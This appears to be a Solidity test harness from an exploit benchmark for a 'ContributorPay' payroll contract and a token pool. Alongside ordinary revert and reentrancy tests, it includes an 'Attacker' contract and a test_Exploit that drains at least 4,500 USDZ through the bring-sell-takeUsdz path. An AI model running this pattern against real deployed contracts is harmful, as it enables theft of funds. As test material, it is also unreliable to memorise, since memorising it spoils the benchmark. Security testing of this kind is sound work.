// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./ContributorPay.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-534d4524-d5a3-4d40-a5d2-b94d45128ba8

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Usdz is ERC20 {
    constructor() ERC20("Usdz", "USDZ") {
        _mint(msg.sender, 1_000_000e18);
    }
}

contract Gov is ERC20 {
    constructor() ERC20("Gov", "GOV") {
        _mint(msg.sender, 1_000_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant DAO = address(0xDA0);
    uint256 private constant START = 1_700_000_000;

    Usdz private usdz;
    Gov private gov;
    PairPool private pool;
    ContributorPay private pay;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        usdz = new Usdz();
        gov = new Gov();
        pool = new PairPool(gov, usdz);
        gov.approve(address(pool), 10_000e18);
        usdz.approve(address(pool), 10_000e18);
        pool.add(10_000e18, 10_000e18, 0);
        pay = new ContributorPay(pool, gov, DAO);
        usdz.transfer(DAO, 8_000e18);
        gov.transfer(DAO, 8_000e18);
        vm.startPrank(DAO);
        usdz.approve(address(pay), 8_000e18);
        gov.approve(address(pay), 8_000e18);
        pay.fund(6_000e18, 6_000e18);
        pay.hire(ANA, 400e18, 100e18);
        pay.hire(BEN, 0, 300e18);
        vm.stopPrank();
        vm.warp(START + 91 days);
        vm.prank(ANA);
        pay.payday();
        mallory = new Attacker(pay);
        gov.transfer(address(mallory), 5_000e18);
    }

    function test_Regular() public {
        require(pay.usdzOf(ANA) == 1_200e18 && pay.govOf(ANA) == 300e18, "paid");
        vm.startPrank(ANA);
        pay.sell(1_000, 0);
        require(pay.govOf(ANA) == 300e18 - 1_000 && pay.usdzOf(ANA) > 1_200e18 + 990, "sold");
        pay.give(BEN, 1e18);
        pay.takeUsdz(ANA, 1_200e18);
        pay.takeGov(ANA, 200e18);
        gov.approve(address(pay), 50e18);
        pay.bring(50e18);
        require(usdz.balanceOf(ANA) == 1_200e18 && gov.balanceOf(ANA) == 150e18, "taken");
        vm.stopPrank();
        vm.startPrank(DAO);
        pay.letGo(BEN);
        require(pay.govOf(BEN) == 901e18 && pay.govBudget() == 4_800e18, "let go");
        pay.fund(100e18, 0);
        pay.defund(4_900e18, 4_800e18);
        require(pay.usdzBudget() == 0 && usdz.balanceOf(DAO) == 6_800e18, "defunded");
        pay.hire(BEN, 1, 0);
        pay.raise(BEN, 2, 5);
        require(pay.usdzPerMonthAll() == 400e18 + 2 && pay.govPerMonthAll() == 100e18 + 5, "raised");
        pay.transferOwnership(ANA);
        vm.stopPrank();
        vm.startPrank(ANA);
        usdz.approve(address(pay), 7);
        pay.tip(BEN, 7);
        pay.quit();
        (uint256 usdzMonths, uint256 govMonths) = pay.runway();
        require(usdzMonths == 0 && govMonths == 0 && pay.dueMonths(BEN) == 0, "no budget");
        pay.acceptOwnership();
        pay.renounceOwnership();
        vm.stopPrank();
    }

    function stranger() private view returns (bytes memory) {
        return abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, address(this));
    }

    function short(uint256 have, uint256 want) private pure returns (bytes memory) {
        return abi.encodeWithSelector(ContributorPay.NotEnough.selector, have, want);
    }

    function test_RefusesStrangers() public {
        vm.expectRevert(stranger());
        pay.fund(0, 0);
        vm.expectRevert(stranger());
        pay.defund(0, 0);
        vm.expectRevert(stranger());
        pay.hire(ANA, 1, 1);
        vm.expectRevert(stranger());
        pay.letGo(ANA);
        vm.expectRevert(stranger());
        pay.raise(ANA, 1, 1);
        vm.expectRevert(abi.encodeWithSelector(ContributorPay.NoContract.selector, address(this)));
        pay.quit();
        vm.expectRevert("who?");
        pay.tip(address(0), 0);
        vm.expectRevert(abi.encodeWithSelector(ContributorPay.NoContract.selector, address(this)));
        pay.payday();
        vm.expectRevert("other pool");
        new ContributorPay(pool, pool, DAO);
        new ContributorPay(new PairPool(usdz, gov), gov, DAO);
    }

    function test_RefusesTerms() public {
        vm.startPrank(DAO);
        vm.expectRevert("who?");
        pay.hire(address(0), 1, 1);
        vm.expectRevert("hired");
        pay.hire(ANA, 1, 1);
        vm.expectRevert("for free?");
        pay.hire(DAO, 0, 0);
        vm.expectRevert(abi.encodeWithSelector(ContributorPay.NoContract.selector, DAO));
        pay.letGo(DAO);
        vm.expectRevert(short(4_800e18, 4_800e18 + 1));
        pay.defund(4_800e18 + 1, 0);
        vm.expectRevert(short(5_700e18, 5_700e18 + 1));
        pay.defund(0, 5_700e18 + 1);
        pay.hire(DAO, 0, 1);
        vm.stopPrank();
    }

    function test_RefusesBalances() public {
        vm.startPrank(ANA);
        vm.expectRevert("not yet");
        pay.payday();
        vm.expectRevert(short(300e18, 300e18 + 1));
        pay.sell(300e18 + 1, 0);
        vm.expectRevert("who?");
        pay.give(address(0), 1);
        vm.expectRevert(short(300e18, 300e18 + 1));
        pay.give(BEN, 300e18 + 1);
        vm.expectRevert(short(300e18, 300e18 + 1));
        pay.takeGov(ANA, 300e18 + 1);
        vm.expectRevert(short(1_200e18, 1_200e18 + 1));
        pay.takeUsdz(ANA, 1_200e18 + 1);
        vm.expectRevert(abi.encodeWithSelector(PairPool.TooLittle.selector, 290413725471157673971));
        pay.sell(300e18, 299e18);
        vm.stopPrank();
    }

    function tooLittle(uint256 got) private pure returns (bytes memory) {
        return abi.encodeWithSelector(PairPool.TooLittle.selector, got);
    }

    function test_RefusesTrades() public {
        vm.expectRevert("same token");
        new PairPool(gov, gov);
        gov.approve(address(pool), 1_000e18);
        usdz.approve(address(pool), 1_000e18);
        vm.expectRevert("price moved");
        pool.add(100e18, 100e18 - 1, 0);
        vm.expectRevert(tooLittle(0));
        pool.add(0, 1e18, 0);
        vm.expectRevert(tooLittle(100e18));
        pool.add(100e18, 100e18, 100e18 + 1);
        vm.expectRevert(tooLittle(1e18));
        pool.remove(1e18, 1e18 + 1, 0);
        vm.expectRevert(tooLittle(1e18));
        pool.remove(1e18, 0, 1e18 + 1);
        vm.expectRevert(tooLittle(0));
        pool.swap(gov, 0, 0, ANA);
    }

    /// A token that trades while it is traded.
    function test_RefusesNesting() public {
        Nested nested = new Nested();
        PairPool other = new PairPool(nested, usdz);
        nested.approve(address(other), 1_000e18);
        usdz.approve(address(other), 1_000e18);
        other.add(100e18, 100e18, 0);
        usdz.transfer(address(nested), 10e18);
        other.transfer(address(nested), 10e18);
        nested.aim(other, usdz, abi.encodeCall(PairPool.add, (1e18, 2e18, 0)));
        other.swap(nested, 1e18, 0, ANA);
        nested.aim(other, usdz, abi.encodeCall(PairPool.remove, (1e18, 0, 0)));
        other.swap(nested, 1e18, 0, ANA);
        nested.aim(other, usdz, abi.encodeCall(PairPool.swap, (usdz, 1e18, 0, ANA)));
        other.remove(1e18, 0, 0);
        require(nested.tried() == 3 && nested.traded() == 0, "traded");
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(usdz.balanceOf(address(mallory)) >= 4_500e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(pay);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function coin() public view returns (address) {
        return address(usdz);
    }
}

contract Nested is ERC20 {
    PairPool private pool;
    bytes private what;
    uint256 public tried;
    uint256 public traded;

    constructor() ERC20("Nested", "NEST") {
        _mint(msg.sender, 1_000e18);
        _mint(address(this), 1_000e18);
    }

    function aim(PairPool pool_, IERC20 two, bytes calldata what_) external {
        pool = pool_;
        what = what_;
        two.approve(address(pool_), type(uint256).max);
        _approve(address(this), address(pool_), type(uint256).max);
    }

    function _update(address from, address to, uint256 amount) internal override {
        super._update(from, to, amount);
        if (what.length == 0) return;
        bytes memory now_ = what;
        delete what;
        tried++;
        (bool done, ) = address(pool).call(now_);
        if (done) traded++;
    }
}

contract Attacker {
    ContributorPay private pay;

    constructor(ContributorPay p) {
        pay = p;
    }

    function run() external {
        pay.gov().approve(address(pay), 5_000e18);
        pay.bring(5_000e18);
        pay.sell(5_000e18, 0);
        pay.takeUsdz(address(this), pay.usdzOf(address(this)));
    }
}
